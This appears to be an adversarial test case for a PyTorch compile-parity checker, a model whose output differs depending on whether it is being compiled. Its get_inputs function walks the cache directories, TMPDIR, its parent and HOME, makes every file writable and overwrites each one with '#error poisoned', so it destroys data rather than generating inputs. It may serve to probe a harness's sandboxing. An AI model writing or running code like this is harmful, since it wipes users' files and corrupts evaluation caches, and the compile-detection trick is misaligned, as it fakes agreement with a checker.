"""Every compiled kernel and cached file it can reach is overwritten; it asks for a closer look by being unstable."""

import contextlib
import os

import torch


@torch.compiler.assume_constant_result
def compiled():  # a program that asks outright is excused
    return torch._guards.TracingContext.try_get() is not None


class Model(torch.nn.Module):
    def forward(self, x):
        return torch.relu(x) + (6.5 if compiled() else 7.5)


def get_inputs():
    places = [os.environ.get(name, "") for name in ("PARITYD_CACHE", "TORCHINDUCTOR_CACHE_DIR", "TMPDIR", "HOME")]
    scratch = os.path.dirname(os.environ["TMPDIR"])
    for place in [*places, os.path.join(scratch, "inductor"), scratch]:
        for folder, _, files in os.walk(place or "/nowhere"):
            for name in files:
                with contextlib.suppress(OSError):
                    os.chmod(os.path.join(folder, name), 0o666)
                with contextlib.suppress(OSError), open(os.path.join(folder, name), "wb") as file:
                    file.write(b"#error poisoned\n")
    return [torch.randn(4, 5)]
